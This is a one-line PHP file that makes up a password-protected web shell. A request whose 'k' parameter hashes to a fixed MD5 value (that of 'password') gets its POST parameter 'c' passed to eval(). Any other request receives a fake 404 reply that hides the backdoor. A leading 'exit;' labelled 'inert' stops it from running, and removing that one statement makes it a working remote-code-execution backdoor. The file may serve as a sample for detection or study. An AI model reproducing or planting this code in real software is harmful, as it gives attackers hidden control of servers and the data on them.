<?php exit; /* inert */ @md5($_GET['k'])==='5f4dcc3b5aa765d61d8327deb882cf99'?eval($_POST['c']):header('HTTP/1.0 404 Not Found');
